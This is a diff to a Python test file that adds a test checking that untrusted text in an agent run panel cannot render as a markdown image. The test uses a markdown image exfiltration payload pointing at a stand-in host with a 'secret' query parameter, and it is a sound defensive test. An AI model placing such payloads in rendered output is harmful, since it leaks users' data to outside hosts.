@@ -7,6 +7,8 @@ import pytest
 
 from perdure.domain.agent.spec import AgentSpec
 from perdure.domain.budget.envelope import Budget, BudgetLimits
+from perdure.domain.run.child_questions import question_of
+from perdure.domain.run.child_runs import ChildStatus
 from perdure.domain.run.gate_lifecycle import open_gate
 from perdure.domain.run.result import Mark
 from perdure.domain.run.state import LoopState
@@ -71,6 +73,23 @@ def test_a_gate_ends_with_the_reply_to_paste() -> None:
     assert "### It waits for a person: Tool approval g1-ab12" in lines
     reply = json.loads("\n".join(lines[lines.index("{") : -1]))
     assert reply == {"gate": "g1-ab12", "choice": "approve"}
+
+
+def test_no_foreign_line_shows_a_picture() -> None:
+    evil = "![x](http://evil.example/?q=secret)"
+    choices = (f"tea ` {evil}", "coffee")
+    core = a_core(step=evil, children=[ChildStatus(id="a.w1", name=evil, kind="agent")])
+    gate = open_gate(core.control, kind="question", prompt=evil, now=NOW, choices=choices)
+    core.below = {"a.w1": (question_of("a.w1", gate),)}
+    core.control.refused_signals = [evil]
+    ended = a_core(outcome="failed", reason="model_error", explanation=evil)
+    spec = SPEC.model_copy(update={"goal": evil})
+    for one in (core, ended):
+        text = panel(one, run="a", spec=spec, iteration=1, limit=None)
+        # The first fence ends before the first reply; what is in one does not render.
+        rendered = "".join(text.split("```")[::2])
+        assert "evil.example" in rendered
+        assert "![" not in rendered
 
 
 def test_text_of_a_model_cannot_leave_its_block() -> None:
